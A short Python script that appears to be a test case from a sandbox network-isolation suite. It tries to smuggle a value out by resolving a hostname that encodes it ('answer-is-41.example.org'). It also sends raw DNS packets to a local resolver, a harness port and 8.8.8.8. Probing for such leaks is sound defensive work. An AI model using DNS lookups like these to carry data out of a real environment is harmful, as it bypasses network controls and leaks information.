# Attack: smuggles data out in the names that it looks up.
# Kind: network

import socket

for name in ("example.com", "answer-is-41.example.org"):
    try:
        through(f"{name} is {socket.gethostbyname(name)}")
    except OSError:
        pass
for server, port in (("127.0.0.53", 53), ("127.0.0.1", int(HOST["udp"])), ("8.8.8.8", 53)):
    try:
        with socket.socket(type=socket.SOCK_DGRAM) as link:
            link.sendto(bytes(12) + b"\x07example\x03com\0\0\1\0\1", (server, port))
            if server == "8.8.8.8":
                through("sent a DNS query")
    except OSError:
        pass
